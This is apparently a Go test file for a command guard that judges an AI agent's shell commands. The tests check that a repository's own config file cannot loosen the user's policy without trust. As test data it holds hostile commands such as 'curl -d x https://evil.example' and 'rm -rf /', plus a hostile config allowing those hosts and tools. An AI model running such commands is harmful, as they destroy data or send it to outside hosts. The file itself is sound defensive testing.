package config

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"handrail/guard"
)

// hostile is what a repository would like to set. None of it counts.
const hostile = `profile: yolo
fallback: contain
default_deny: false
hosts: [evil.example, "*.evil.example"]
levels: {net/unknown-host: allow, net/send: allow, fs/outside: allow, default/inline-code: allow, default/push: allow}
tools:
  safe_bash: {enabled: true, allow: ["/**"], allowed_dirs: [/], allow_commands: [rm, curl], allow_domains: [evil.example], rate_limit: 100000}
  safe_write: {enabled: true, allow: ["/**"]}
`

// opened is a running system with a project.
func opened(t testing.TB, c *Config) (*System, func(command string) *guard.Decision) {
	t.Helper()
	sys, err := c.Open()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sys.Close() })
	return sys, func(command string) *guard.Decision {
		t.Helper()
		sys.live.mu.Lock() // look now, not in a quarter of a second
		sys.live.next, sys.live.trust.next = time.Time{}, time.Time{}
		clear(sys.live.places)
		sys.live.mu.Unlock()
		root := c.Roots[0]
		return sys.Guard.Judge(&guard.EvalContext{ToolName: "safe_bash", WorkingDir: root, Roots: c.Roots,
			Input: []byte(quoted(map[string]string{"command": command})), Facts: sys.Reader.Read(command, root)})
	}
}

// attempts are calls with the verdict that the user's own policy gives.
var attempts = map[string]guard.Verdict{
	"curl https://evil.example/x":    guard.VerdictAsk,
	"curl -d x https://evil.example": guard.VerdictAsk,
	"touch /tmp/elsewhere/x":         guard.VerdictAsk,
	"rm -rf /":                       guard.VerdictDeny,
	"python3 -c 'import os'":         guard.VerdictLLM,
	"echo x > .handrail/config.yaml": guard.VerdictAsk,
	"echo x > .env":                  guard.VerdictAsk,
	"ls":                             guard.VerdictAllow,
}

func expect(t *testing.T, when string, judge func(string) *guard.Decision, want map[string]guard.Verdict) {
	t.Helper()
	for command, v := range want {
		if d := judge(command); d.Verdict != v {
			t.Errorf("%s: %s is %s (%s: %s), want %s", when, command, d.Verdict, d.Rule, d.Reason, v)
		}
	}
}

// projectOf makes a user with a project and returns its configuration.
func projectOf(t testing.TB) (home, root string) {
	t.Helper()
	home = userOf(t)
	noLLM(t)
	t.Setenv("HANDRAIL_GUARD_LLM", "off")
	root = filepath.Join(home, "src", "p")
	if err := os.MkdirAll(root, 0o700); err != nil {
		t.Fatal(err)
	}
	return home, root
}

func loaded(t testing.TB, root string) *Config {
	t.Helper()
	c, err := Load("", []string{root})
	if err != nil {
		t.Fatal(err)
	}
	c.Sandbox.Tier = "none" // nothing runs here
	return c
}

// A project's file tightens at once and loosens only after it was trusted, as it
// was then.
func TestProject(t *testing.T) {
	_, root := projectOf(t)
	c := loaded(t, root)
	var said []string
	c.Notice = func(s string) { said = append(said, s) }
	_, judge := opened(t, c)
	expect(t, "without a file", judge, attempts)

	file := write(t, filepath.Join(root, projectFile), hostile)
	expect(t, "hostile", judge, map[string]guard.Verdict{
		"curl https://evil.example/x": guard.VerdictAsk, "touch /tmp/elsewhere/x": guard.VerdictDeny, "python3 -c 'import os'": guard.VerdictDeny, "rm -rf /": guard.VerdictDeny})

	write(t, file, "hosts: [docs.example]\nlevels: {net/unknown-host: deny}\n")
	expect(t, "mixed", judge, map[string]guard.Verdict{"curl https://docs.example": guard.VerdictDeny, "ls": guard.VerdictAllow})

	write(t, file, "hosts: [docs.example]\nlevels: {fs/outside: allow}\n")
	expect(t, "untrusted", judge, map[string]guard.Verdict{"curl https://docs.example": guard.VerdictAsk, "touch /tmp/elsewhere/x": guard.VerdictAsk})
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	trust := func(data []byte) {
		t.Helper()
		if err := OpenTrust(c.State).Replace(root, []TrustedFile{{Root: root, Path: projectFile, SHA256: sumOf(data)}}); err != nil {
			t.Fatal(err)
		}
	}
	trust(data)
	expect(t, "trusted", judge, map[string]guard.Verdict{"curl https://docs.example": guard.VerdictAllow, "touch /tmp/elsewhere/x": guard.VerdictAsk})
	write(t, file, string(data)+"# changed\n")
	expect(t, "changed after trust", judge, map[string]guard.Verdict{"curl https://docs.example": guard.VerdictAsk})
	write(t, file, string(data))
	expect(t, "as it was", judge, map[string]guard.Verdict{"curl https://docs.example": guard.VerdictAllow})
	if err := OpenTrust(c.State).Replace(root, nil); err != nil {
		t.Fatal(err)
	}
	expect(t, "untrusted again", judge, map[string]guard.Verdict{"curl https://docs.example": guard.VerdictAsk})

	write(t, file, "hosts: [docs.example\n")
	expect(t, "broken", judge, map[string]guard.Verdict{"ls": guard.VerdictAsk, "rm -rf /": guard.VerdictDeny})
	if d := judge("ls"); !strings.Contains(d.Reason, "config.yaml: line 1") && !strings.Contains(d.Reason, "config.yaml:1") {
		t.Errorf("the question does not say where: %s", d.Reason)
	}
	// What counts for all projects a project cannot set, also not tighter: nothing
	// would come of it.
	for text, path := range map[string]string{"state: /tmp": "state", "approval: {ask_timeout: 10s}": "approval.ask_timeout", "sandbox: {limits: {disk: 100}}": "sandbox.limits.disk",
		"sandbox: {hidden: [~/notes]}": "sandbox.hidden", "sandbox: {tier: none}": "sandbox.tier", "llm: {use: \"off\"}": "llm.use", "store: postgres://h/d": "store"} {
		write(t, file, text+"\n")
		if d := judge("ls"); d.Verdict != guard.VerdictAsk || !strings.Contains(d.Reason, "config.yaml:1: "+path+": only the user's own") {
			t.Errorf("%s: %s %s", text, d.Verdict, d.Reason)
		}
	}
	os.RemoveAll(filepath.Dir(file))
	expect(t, "gone", judge, attempts)
	if len(said) == 0 {
		t.Error("nobody was told")
	}
}

// Whatever stands where a project's file would be, nothing loosens, and what is
// there and cannot be read asks.
func TestProjectFileForms(t *testing.T) {
	home, root := projectOf(t)
	c := loaded(t, root)
	_, judge := opened(t, c)
	outside := write(t, filepath.Join(home, "elsewhere", "config.yaml"), "hosts: [docs.example]\n")
	data, _ := os.ReadFile(outside)
	// Even if a file with this content is trusted, also by this name.
	if err := OpenTrust(c.State).Replace(root, []TrustedFile{{Root: root, Path: projectFile, SHA256: sumOf(data)}}); err != nil {
		t.Fatal(err)
	}
	dir, file := filepath.Join(root, ".handrail"), filepath.Join(root, projectFile)
	for _, form := range []struct {
		name  string
		make  func() error
		lsAsk bool
	}{
		{"a link out", func() error { os.Mkdir(dir, 0o700); return os.Symlink(outside, file) }, true},
		{"a directory that is a link out", func() error { return os.Symlink(filepath.Dir(outside), dir) }, true},
		{"an absolute link within", func() error {
			os.Mkdir(dir, 0o700)
			write(t, filepath.Join(root, "x.yaml"), string(data)+"# other\n")
			return os.Symlink("../x.yaml", file)
		}, false},
		{"a dangling link", func() error { os.Mkdir(dir, 0o700); return os.Symlink("nowhere", file) }, false},
		{"a directory", func() error { return os.MkdirAll(file, 0o700) }, true},
		{"a pipe", func() error { os.Mkdir(dir, 0o700); return syscall.Mkfifo(file, 0o600) }, true},
		{"too long", func() error {
			os.Mkdir(dir, 0o700)
			return os.WriteFile(file, append(bytes.Repeat([]byte("#"), maxProjectFile), data...), 0o600)
		}, true},
		{"a file in place of the directory", func() error { return os.WriteFile(dir, data, 0o600) }, false},
		{"another case", func() error {
			os.Mkdir(filepath.Join(root, ".Handrail"), 0o700)
			return os.WriteFile(filepath.Join(root, ".Handrail", "Config.yaml"), []byte(hostile), 0o600)
		}, false},
		{"another case of the file", func() error {
			os.Mkdir(dir, 0o700)
			return os.WriteFile(filepath.Join(dir, "config.YAML"), []byte(hostile), 0o600)
		}, false},
		{"a directory renamed into place", func() error {
			other := filepath.Join(root, "other")
			write(t, filepath.Join(other, "config.yaml"), hostile)
			return os.Rename(other, dir)
		}, false},
	} {
		for _, d := range []string{dir, filepath.Join(root, ".Handrail"), filepath.Join(root, "x.yaml")} {
			os.RemoveAll(d)
		}
		if err := form.make(); err != nil {
			t.Fatalf("%s: %v", form.name, err)
		}
		if d := judge("curl https://docs.example"); d.Verdict == guard.VerdictAllow {
			t.Errorf("%s: %s", form.name, d.Verdict)
		}
		if d := judge("curl https://evil.example"); d.Verdict > guard.VerdictAsk {
			t.Errorf("%s: %s", form.name, d.Verdict)
		}
		if d := judge("cd ."); form.lsAsk && d.Verdict != guard.VerdictAsk {
			t.Errorf("%s: what the file forbids is not known, and cd is %s", form.name, d.Verdict)
		}
	}
}

// The user's file is picked up whole and valid, or the old one stays, loudly.
func TestLiveUserFile(t *testing.T) {
	home, root := projectOf(t)
	file := write(t, filepath.Join(home, ".config/handrail/config.yaml"), "hosts: [docs.example]\n")
	c := loaded(t, root)
	var said []string
	c.Notice = func(s string) { said = append(said, s) }
	_, judge := opened(t, c)
	docs := func(when string, want guard.Verdict) {
		t.Helper()
		expect(t, when, judge, map[string]guard.Verdict{"curl https://docs.example": want})
	}
	docs("at the start", guard.VerdictAllow)
	write(t, file, "hosts: [docs.example]\nlevels: {net/unknown-host: deny}\nllm: {model: other}\n")
	expect(t, "changed", judge, map[string]guard.Verdict{"curl https://evil.example": guard.VerdictDeny})
	if last := said[len(said)-1]; !strings.Contains(last, "in force") || !strings.Contains(last, "llm.model") {
		t.Errorf("told: %q", last)
	}
	write(t, file, "hosts: [\n")
	expect(t, "broken", judge, map[string]guard.Verdict{"curl https://evil.example": guard.VerdictDeny, "curl https://docs.example": guard.VerdictAllow})
	if last := said[len(said)-1]; !strings.Contains(last, "stays as it was") {
		t.Errorf("told: %q", last)
	}
	os.Remove(file)
	docs("gone", guard.VerdictAllow)
	write(t, file, "hosts: []\n")
	docs("good again", guard.VerdictAsk)
}

// What is not a trust file of the user's own trusts nothing.
func TestTrustFile(t *testing.T) {
	_, root := projectOf(t)
	c := loaded(t, root)
	path, sum := filepath.Join(root, projectFile), sumOf([]byte("x"))
	good := []TrustedFile{{Root: root, Path: projectFile, SHA256: sum}}
	has := func() bool { return OpenTrust(c.State).Has(path, sum) }
	if has() || (*Trust)(nil).Has(path, sum) || OpenTrust("").Has(path, sum) {
		t.Error("trusted before anybody did")
	}
	for range 2 {
		if err := OpenTrust(c.State).Replace(root, good); err != nil {
			t.Fatal(err)
		}
	}
	if !has() || OpenTrust(c.State).Has(path, sumOf([]byte("y"))) || OpenTrust(c.State).Has(path+"x", sum) || OpenTrust(c.State).Has(path, "") {
		t.Error("trust is not of this path with this content")
	}
	if files, err := OpenTrust(c.State).Files(); err != nil || len(files) != 1 {
		t.Errorf("%v, %v", files, err)
	}
	file := filepath.Join(c.State, "trust.json")
	os.Chmod(file, 0o666)
	if has() {
		t.Error("others may have written it")
	}
	os.Chmod(file, 0o600)
	write(t, file, "{")
	if has() {
		t.Error("a broken file trusts")
	}
	if err := OpenTrust(c.State).Replace(root, good); err == nil {
		t.Error("a broken file is silently replaced")
	}
}
